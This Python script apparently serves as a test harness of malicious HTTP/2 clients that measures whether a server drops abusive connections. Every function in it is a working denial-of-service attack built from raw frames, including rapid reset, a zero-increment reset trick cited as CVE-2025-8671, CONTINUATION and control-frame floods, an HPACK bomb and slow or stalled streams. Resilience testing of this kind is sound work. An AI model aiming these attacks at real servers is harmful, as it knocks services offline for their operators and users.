"""Malicious HTTP/2 clients, by raw frames.

    h2.py ATTACK HOST:PORT SECONDS

Attacks until the server cuts the connection off or the time is over, and prints one JSON object:
whether it was cut off, after how long, and how many frames it took.
"""

import json
import select
import socket
import ssl
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Peer:
    """A connection that writes whatever it is told and reads in the background."""

    def __init__(self, address, settings=None, read=True):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        host, port = address.rsplit(":", 1)
        tcp = socket.create_connection((host, int(port)), timeout=10)
        tcp.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = context.wrap_socket(tcp, server_hostname="localhost")
        # A TLS connection is one thread's at a time.
        self.tls.setblocking(False)
        self.turn = threading.Lock()
        self.encoder = hpack.Encoder()
        self.cut = False
        self.code = None
        self.refused = 0
        self.sent = 0
        self.stream = 1
        self.begun = time.monotonic()
        self.write(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        if read:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        buffer = b""
        while not self.cut:
            try:
                select.select([self.tls], [], [], 0.05)
                with self.turn:
                    data = self.tls.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except (OSError, ValueError):
                break
            if not data:
                break
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                self.frame(buffer[3], buffer[9 : 9 + length])
                buffer = buffer[9 + length :]
        self.cut = True

    def frame(self, kind, payload):
        if kind == 7:
            self.code = int.from_bytes(payload[4:8], "big")
        if kind == 3:
            self.refused += 1

    def write(self, data, frames=1):
        """False once the server has had enough."""
        rest, end = memoryview(data), time.monotonic() + 10
        while rest:
            if self.cut or time.monotonic() > end:
                return False
            try:
                with self.turn:
                    sent = self.tls.send(rest)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([], [self.tls], [], 0.05)
            except (OSError, ValueError):
                self.cut = True
                return False
            else:
                rest = rest[sent:]
        self.sent += frames
        return True

    def head(self, method="GET", path="/object", extra=(), flags=("END_HEADERS", "END_STREAM"), block=None):
        """The next stream's HEADERS frame."""
        if block is None:
            fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")]
            block = self.encoder.encode(fields + list(extra))
        frame = HeadersFrame(self.stream, data=block, flags=list(flags))
        self.stream += 2
        return frame.serialize()


def rapid_reset(peer, until):
    while time.monotonic() < until:
        batch = b""
        for _ in range(50):
            stream = peer.stream
            batch += peer.head() + RstStreamFrame(stream, error_code=8).serialize()
        if not peer.write(batch, 100):
            return


def made_you_reset(peer, until):
    while time.monotonic() < until:
        batch = b""
        for _ in range(20):
            stream = peer.stream
            # An increment of 0 makes the server reset the stream (CVE-2025-8671).
            batch += peer.head() + b"\x00\x00\x04\x08\x00" + stream.to_bytes(4, "big") + b"\x00\x00\x00\x00"
        if not peer.write(batch, 40):
            return


def continuation(peer, until):
    peer.write(peer.head(flags=()))
    part = ContinuationFrame(1, data=peer.encoder.encode([("x", "y" * 900)])).serialize()
    while time.monotonic() < until and peer.write(part * 20, 20):
        pass


def flood(frame, size=200):
    def attack(peer, until):
        data = frame * size
        while time.monotonic() < until and peer.write(data, size):
            pass

    return attack


def empty_data(peer, until):
    peer.write(peer.head("POST", flags=("END_HEADERS",)))
    flood(DataFrame(1, data=b"").serialize())(peer, until)


def window_updates(peer, until):
    flood(WindowUpdateFrame(0, window_increment=1).serialize())(peer, until)


def hpack_bomb(peer, until):
    """One entry of almost the whole table, then thousands of references to it, window zero."""
    fields = [(":method", "GET"), (":scheme", "https"), (":path", "/object"), (":authority", "localhost")]
    first = peer.encoder.encode(fields + [("x", "y" * 3900)])
    peer.write(peer.head(block=first))
    # The newest entry of the dynamic table is number 62.
    block = peer.encoder.encode(fields) + b"\xbe" * 16000
    while time.monotonic() < until:
        if not peer.write(peer.head(block=block)):
            return
        time.sleep(0.005)


def zero_window(peer, until):
    """As many large responses as there may be, none of them read."""
    for _ in range(100):
        if not peer.write(peer.head(path="/large")):
            return
    while time.monotonic() < until and not peer.cut:
        time.sleep(0.05)


def slow_head(peer, until):
    """A head that comes byte by byte and never ends."""
    head = peer.head(extra=[("x", "y" * 5000)])
    for byte in head[:-1]:
        if time.monotonic() > until or not peer.write(bytes([byte])):
            return
        time.sleep(0.1)


def silent(peer, until):
    while time.monotonic() < until and not peer.cut:
        time.sleep(0.05)


ATTACKS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "settings": flood(SettingsFrame(0, settings={3: 100}).serialize()),
    "ping": flood(PingFrame(0, opaque_data=b"12345678").serialize()),
    "priority": flood(PriorityFrame(1, depends_on=0, stream_weight=1).serialize()),
    "unknown": flood(b"\x00\x00\x00\xbb\x00\x00\x00\x00\x00"),
    "empty-data": empty_data,
    "window-updates": window_updates,
    "hpack-bomb": hpack_bomb,
    "zero-window": zero_window,
    "slow-head": slow_head,
    "silent": silent,
}

SETTINGS = {"zero-window": {4: 0}, "hpack-bomb": {4: 0}}


def main():
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    peer = Peer(address, SETTINGS.get(name))
    ATTACKS[name](peer, peer.begun + seconds)
    # What is on its way may still tell.
    end = time.monotonic() + 0.5
    while not peer.cut and time.monotonic() < end:
        time.sleep(0.01)
    took = time.monotonic() - peer.begun
    print(json.dumps({"cut": peer.cut, "code": peer.code, "frames": peer.sent, "refused": peer.refused, "seconds": took}))


assert Frame  # hyperframe, not something else of that name
main()
